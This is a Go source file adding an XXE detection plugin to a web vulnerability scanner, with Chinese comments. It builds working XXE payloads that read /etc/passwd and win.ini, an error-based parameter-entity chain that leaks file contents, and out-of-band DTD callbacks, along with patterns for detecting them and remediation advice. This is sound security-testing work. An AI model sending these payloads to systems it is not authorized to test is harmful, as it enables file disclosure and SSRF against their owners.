@@ -0,0 +1,471 @@
+package injection
+
+import (
+	"context"
+	"encoding/xml"
+	"fmt"
+	"net/http"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// XXEDetector XML外部实体注入检测器 - 文件回显、解析错误与参数实体带外回连三种确认方式
+type XXEDetector struct {
+	*detector.BasePlugin
+	requestModifier  *detector.RequestModifier
+	responseAnalyzer *detector.ResponseAnalyzer
+	paramExtractor   *detector.ParameterExtractor
+	oobProvider      detector.OOBProvider
+}
+
+// XXEFile 外部实体读取的文件及其内容特征
+type XXEFile struct {
+	URI     string
+	Pattern *regexp.Regexp
+}
+
+// xxeRequest 一个可改写的XML请求：原始XML请求体，或由JSON/SOAP端点转换得到的XML请求体
+type xxeRequest struct {
+	target      *detector.ScanTarget
+	contentType string
+	body        string
+	textPaths   []string // 可放置实体引用的元素文本路径
+	source      string   // xml / json-converted / soap
+}
+
+// NewXXEDetector 创建XXE检测器
+func NewXXEDetector(httpClient transport.HTTPClient) *XXEDetector {
+	base := detector.NewBasePlugin(
+		"xxe-detector",
+		detector.PluginTypeActive,
+		models.CategoryInjection,
+		models.SeverityHigh,
+	)
+
+	base.SetDescription("检测XML外部实体注入漏洞，覆盖XML/SOAP请求体及可切换为XML的JSON接口")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &XXEDetector{
+		BasePlugin:       base,
+		requestModifier:  detector.NewRequestModifier(httpClient),
+		responseAnalyzer: detector.NewResponseAnalyzer(),
+		paramExtractor:   detector.NewParameterExtractor(),
+	}
+}
+
+// SetSessionCookies 设置会话Cookie
+func (x *XXEDetector) SetSessionCookies(cookies []*http.Cookie) {
+	x.requestModifier.SetSessionCookies(cookies)
+}
+
+// SetOOBProvider 设置带外交互提供者，未设置时跳过盲注检测
+func (x *XXEDetector) SetOOBProvider(provider detector.OOBProvider) {
+	x.oobProvider = provider
+}
+
+// Execute 执行XXE检测
+func (x *XXEDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	req := x.buildXMLRequest(target)
+	if req == nil {
+		result.Metadata["message"] = "目标不接受XML请求体"
+		return result, nil
+	}
+
+	fmt.Printf("[INFO] XXE检测器测试 %s (来源: %s, 文本节点: %d)\n", target.URL.String(), req.source, len(req.textPaths))
+
+	// 1. 文件内容回显
+	vuln := x.testInBand(ctx, req)
+
+	// 2. 外部实体加载错误
+	if vuln == nil {
+		vuln = x.testErrorBased(ctx, req)
+	}
+
+	// 3. 参数实体带外回连
+	if vuln == nil && x.oobProvider != nil {
+		vuln = x.testOOBBased(ctx, req)
+	}
+
+	if vuln != nil {
+		result.IsVulnerable = true
+		result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+		fmt.Printf("[SUCCESS] 发现XXE漏洞: %s\n", target.URL.String())
+	}
+
+	result.Metadata["request_source"] = req.source
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+
+	return result, nil
+}
+
+// buildXMLRequest 根据目标确定要改写的XML请求体
+func (x *XXEDetector) buildXMLRequest(target *detector.ScanTarget) *xxeRequest {
+	contentType := detector.ContentTypeOf(target)
+
+	switch {
+	case target.Body != "" && detector.IsXMLContentType(contentType):
+		var paths []string
+		for _, point := range x.paramExtractor.ExtractParameters(target) {
+			// 外部实体不能出现在属性值中
+			if point.Position == models.PositionXML && !strings.Contains(point.Name, "@") {
+				paths = append(paths, point.Name)
+			}
+		}
+		return &xxeRequest{target: target, contentType: contentType, body: target.Body, textPaths: paths, source: "xml"}
+
+	case target.Body != "" && detector.IsJSONContentType(contentType):
+		// 同时接受JSON和XML的解析器（如JAX-RS、Spring）在切换Content-Type后会解析XML
+		body, paths := jsonToXML(target.Body)
+		if body == "" {
+			return nil
+		}
+		return &xxeRequest{target: target, contentType: "application/xml", body: body, textPaths: paths, source: "json-converted"}
+
+	case isSOAPEndpoint(target):
+		body := `<?xml version="1.0" encoding="utf-8"?>` +
+			`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><request><value>test</value></request></soap:Body></soap:Envelope>`
+		return &xxeRequest{target: withMethod(target, "POST"), contentType: "text/xml; charset=utf-8", body: body, textPaths: []string{"Envelope/Body/request/value"}, source: "soap"}
+	}
+
+	return nil
+}
+
+// testInBand 在DOCTYPE中声明读取本地文件的外部实体，并在所有文本节点引用它
+func (x *XXEDetector) testInBand(ctx context.Context, req *xxeRequest) *models.Vulnerability {
+	if len(req.textPaths) == 0 {
+		return nil
+	}
+
+	baseline := string(req.target.BaselineBody)
+	for _, file := range x.getFiles() {
+		if file.Pattern.MatchString(baseline) {
+			continue
+		}
+
+		dtd := fmt.Sprintf(`<!ENTITY drsxxe SYSTEM "%s">`, file.URI)
+		payload, err := x.injectEntity(req, dtd, "&drsxxe;")
+		if err != nil {
+			return nil
+		}
+
+		body, err := x.send(ctx, req, payload)
+		if err != nil {
+			continue
+		}
+
+		if match := file.Pattern.FindString(string(body)); match != "" {
+			return x.buildVulnerability(
+				"XML External Entity Injection (File Disclosure)",
+				fmt.Sprintf("XML解析器处理外部实体，响应中返回了 %s 的内容", file.URI),
+				req, payload,
+				fmt.Sprintf("响应中出现文件内容: %s", match),
+				0.95,
+			)
+		}
+	}
+
+	return nil
+}
+
+// testErrorBased 引用不存在的文件，检查解析器加载外部实体失败的错误；
+// 并尝试通过参数实体将文件内容带入错误信息
+func (x *XXEDetector) testErrorBased(ctx context.Context, req *xxeRequest) *models.Vulnerability {
+	baselineBody := req.target.BaselineBody
+	patterns := x.getEntityErrorPatterns()
+
+	// 基准中已存在的错误特征不作为证据
+	if found, _ := x.responseAnalyzer.ContainsErrorPatterns(baselineBody, patterns); found {
+		return nil
+	}
+
+	// 参数实体拼接出包含文件内容的非法路径，部分解析器会在错误信息中回显该路径
+	for _, file := range x.getFiles() {
+		dtd := fmt.Sprintf(`<!ENTITY %% drsfile SYSTEM "%s"><!ENTITY %% drseval "<!ENTITY &#x25; drserror SYSTEM 'file:///drsnonexistent/%%drsfile;'>">%%drseval;%%drserror;`, file.URI)
+		payload, err := x.injectEntity(req, dtd, "")
+		if err != nil {
+			return nil
+		}
+		body, err := x.send(ctx, req, payload)
+		if err != nil {
+			continue
+		}
+		if match := file.Pattern.FindString(string(body)); match != "" {
+			return x.buildVulnerability(
+				"XML External Entity Injection (Error-based File Disclosure)",
+				fmt.Sprintf("XML解析器处理参数实体，%s 的内容出现在解析错误信息中", file.URI),
+				req, payload,
+				fmt.Sprintf("错误信息中出现文件内容: %s", match),
+				0.95,
+			)
+		}
+	}
+
+	dtd := `<!ENTITY drsxxe SYSTEM "file:///drsnonexistent/drs.xml">`
+	ref := "&drsxxe;"
+	if len(req.textPaths) == 0 {
+		dtd = `<!ENTITY % drsxxe SYSTEM "file:///drsnonexistent/drs.dtd">%drsxxe;`
+		ref = ""
+	}
+	payload, err := x.injectEntity(req, dtd, ref)
+	if err != nil {
+		return nil
+	}
+	body, err := x.send(ctx, req, payload)
+	if err != nil {
+		return nil
+	}
+
+	if found, matched := x.responseAnalyzer.ContainsErrorPatterns(body, patterns); found {
+		return x.buildVulnerability(
+			"XML External Entity Injection (Error-based)",
+			"XML解析器尝试加载外部实体引用的本地文件，外部实体处理未禁用",
+			req, payload,
+			fmt.Sprintf("响应中出现外部实体加载错误: %v", matched),
+			0.8,
+		)
+	}
+
+	return nil
+}
+
+// testOOBBased 通过外部参数实体和普通外部实体请求回连地址
+func (x *XXEDetector) testOOBBased(ctx context.Context, req *xxeRequest) *models.Vulnerability {
+	interaction := x.oobProvider.NewInteraction()
+
+	// 参数实体在DTD解析阶段即加载，不依赖元素内容是否被使用
+	dtd := fmt.Sprintf(`<!ENTITY %% drsremote SYSTEM "%s">%%drsremote;`, interaction.URL)
+	ref := ""
+	if len(req.textPaths) > 0 {
+		dtd += fmt.Sprintf(`<!ENTITY drsxxe SYSTEM "%s">`, interaction.URL)
+		ref = "&drsxxe;"
+	}
+
+	payload, err := x.injectEntity(req, dtd, ref)
+	if err != nil {
+		return nil
+	}
+	if _, err := x.send(ctx, req, payload); err != nil {
+		return nil
+	}
+
+	if x.oobProvider.WaitForInteraction(ctx, interaction.ID, 3*time.Second) {
+		vuln := x.buildVulnerability(
+			"XML External Entity Injection (Out-of-band)",
+			"XML解析器加载了外部实体引用的远程地址，可用于盲注读取文件或发起SSRF",
+			req, payload,
+			fmt.Sprintf("收到关联ID %s 的带外回连", interaction.ID),
+			0.95,
+		)
+		vuln.Metadata["oob_id"] = interaction.ID
+		return vuln
+	}
+
+	// 异步处理XML（消息队列等）时回连可能延后到达
+	x.oobProvider.ExpectInteraction(interaction.ID, x.buildVulnerability(
+		"XML External Entity Injection (Out-of-band, delayed)",
+		"XML解析器异步加载了外部实体引用的远程地址",
+		req, payload,
+		"",
+		0.9,
+	))
+
+	return nil
+}
+
+// injectEntity 在请求体中插入DOCTYPE内部子集，并将所有文本节点替换为实体引用
+func (x *XXEDetector) injectEntity(req *xxeRequest, dtd, ref string) (string, error) {
+	body := req.body
+	if ref != "" {
+		for _, path := range req.textPaths {
+			updated, err := detector.SetXMLRawValue(body, path, ref)
+			if err != nil {
+				continue
+			}
+			body = updated
+		}
+	}
+	return withDoctype(body, dtd)
+}
+
+// send 发送改写后的XML请求体并读取响应
+func (x *XXEDetector) send(ctx context.Context, req *xxeRequest, body string) ([]byte, error) {
+	fmt.Printf("[DEBUG] 测试XXE payload: %s\n", body)
+
+	resp, err := x.requestModifier.SendBody(ctx, req.target, req.contentType, body)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	return helper.ReadBody(resp)
+}
+
+// doctypePattern 已有的DOCTYPE声明（含内部子集）
+var doctypePattern = regexp.MustCompile(`(?is)<!DOCTYPE[^\[>]*(\[.*?\])?\s*>`)
+
+// xmlDeclPattern XML声明
+var xmlDeclPattern = regexp.MustCompile(`(?s)^\s*<\?xml.*?\?>`)
+
+// withDoctype 替换或插入DOCTYPE，根元素名取自请求体
+func withDoctype(body, dtd string) (string, error) {
+	body = doctypePattern.ReplaceAllString(body, "")
+
+	root := xmlRootName(body)
+	if root == "" {
+		return "", fmt.Errorf("无法确定XML根元素")
+	}
+	doctype := fmt.Sprintf("<!DOCTYPE %s [%s]>", root, dtd)
+
+	if loc := xmlDeclPattern.FindStringIndex(body); loc != nil {
+		return body[:loc[1]] + doctype + body[loc[1]:], nil
+	}
+	return `<?xml version="1.0" encoding="UTF-8"?>` + doctype + body, nil
+}
+
+// xmlRootName 获取根元素的限定名（保留命名空间前缀）
+func xmlRootName(body string) string {
+	decoder := xml.NewDecoder(strings.NewReader(body))
+	decoder.Strict = false
+	for {
+		offset := decoder.InputOffset()
+		token, err := decoder.RawToken()
+		if err != nil {
+			return ""
+		}
+		if _, ok := token.(xml.StartElement); ok {
+			tag := body[offset:decoder.InputOffset()]
+			tag = strings.TrimLeft(strings.TrimSpace(tag), "<")
+			if end := strings.IndexAny(tag, " \t\r\n/>"); end >= 0 {
+				tag = tag[:end]
+			}
+			return tag
+		}
+	}
+}
+
+// xmlNamePattern 不能作为XML元素名的字符
+var xmlNamePattern = regexp.MustCompile(`[^A-Za-z0-9_.-]`)
+
+// jsonToXML 将JSON请求体的叶子节点转换为 <root> 下的同名元素，返回XML请求体和文本路径
+func jsonToXML(body string) (string, []string) {
+	leaves := detector.FlattenJSON(body)
+	if len(leaves) == 0 {
+		return "", nil
+	}
+
+	var builder strings.Builder
+	builder.WriteString(`<?xml version="1.0" encoding="UTF-8"?><root>`)
+
+	counts := make(map[string]int)
+	var paths []string
+	for _, leaf := range leaves {
+		name := xmlNamePattern.ReplaceAllString(leaf.Path, "_")
+		if name == "" || !((name[0] >= 'A' && name[0] <= 'Z') || (name[0] >= 'a' && name[0] <= 'z') || name[0] == '_') {
+			name = "_" + name
+		}
+
+		var escaped strings.Builder
+		xml.EscapeText(&escaped, []byte(leaf.Value))
+		builder.WriteString(fmt.Sprintf("<%s>%s</%s>", name, escaped.String(), name))
+
+		path := "root/" + name
+		if n := counts[name]; n > 0 {
+			path = fmt.Sprintf("%s[%d]", path, n)
+		}
+		counts[name]++
+		paths = append(paths, path)
+	}
+	builder.WriteString("</root>")
+
+	return builder.String(), paths
+}
+
+// isSOAPEndpoint 根据URL判断是否为SOAP服务端点
+func isSOAPEndpoint(target *detector.ScanTarget) bool {
+	path := strings.ToLower(target.URL.Path)
+	query := strings.ToLower(target.URL.RawQuery)
+	return strings.HasSuffix(path, ".asmx") || strings.HasSuffix(path, ".svc") ||
+		strings.Contains(path, "/soap") || strings.Contains(path, "/services/") ||
+		query == "wsdl" || strings.HasPrefix(query, "wsdl")
+}
+
+// withMethod 复制目标并设置请求方法
+func withMethod(target *detector.ScanTarget, method string) *detector.ScanTarget {
+	copied := *target
+	copied.Method = method
+	return &copied
+}
+
+// getFiles 外部实体读取的本地文件
+func (x *XXEDetector) getFiles() []XXEFile {
+	return []XXEFile{
+		{URI: "file:///etc/passwd", Pattern: regexp.MustCompile(`root:[^:\r\n]*:0:0:`)},
+		{URI: "file:///c:/windows/win.ini", Pattern: regexp.MustCompile(`(?i)\[(fonts|extensions)\]`)},
+	}
+}
+
+// getEntityErrorPatterns 解析器加载外部实体失败的错误特征
+func (x *XXEDetector) getEntityErrorPatterns() []string {
+	return []string{
+		// libxml2 (PHP/Python lxml)
+		"failed to load external entity",
+		"i/o warning : failed to load",
+		// Java
+		"java.io.filenotfoundexception",
+		// .NET
+		"system.io.filenotfoundexception",
+		"system.io.directorynotfoundexception",
+		"could not find a part of the path",
+		"could not find file",
+		// 通用
+		"no such file or directory",
+	}
+}
+
+// buildVulnerability 构建XXE漏洞对象
+func (x *XXEDetector) buildVulnerability(
+	title, description string,
+	req *xxeRequest,
+	payload, evidence string,
+	confidence float64,
+) *models.Vulnerability {
+	return models.NewVulnerabilityBuilder().
+		WithType(models.VulnXXE).
+		WithCategory(models.CategoryInjection).
+		WithSeverity(models.SeverityHigh).
+		WithTitle(title).
+		WithDescription(description).
+		WithURL(req.target.URL.String()).
+		WithMethod(req.target.Method).
+		WithParameter("body", models.PositionXML).
+		WithPayload(payload).
+		WithEvidence(evidence).
+		WithConfidence(confidence).
+		WithPlugin(x.Name()).
+		WithCWE("CWE-611").
+		WithCVSS(8.2).
+		WithMetadata("request_source", req.source).
+		WithMetadata("content_type", req.contentType).
+		WithSolution("禁用XML解析器的DTD和外部实体处理（如 libxml_disable_entity_loader、XMLConstants.FEATURE_SECURE_PROCESSING、disallow-doctype-decl），不接受非预期的Content-Type").
+		WithReferences([]string{
+			"https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",
+			"https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
+		}).
+		Build()
+}